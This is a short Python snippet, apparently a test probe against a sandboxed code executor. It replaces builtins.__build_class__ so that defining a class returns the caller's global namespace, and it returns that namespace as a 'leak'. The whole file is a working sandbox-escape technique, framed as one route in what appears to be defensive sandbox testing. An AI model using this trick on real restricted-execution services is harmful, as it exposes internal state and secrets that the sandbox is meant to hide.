# route: __build_class__ is replaced
def execute(testData):
    builtins = print.__self__
    original = builtins.__build_class__
    builtins.__build_class__ = lambda f, n, *b: f.__globals__
    try:

        class X:
            pass

        return {"leak": str(X)}
    finally:
        builtins.__build_class__ = original
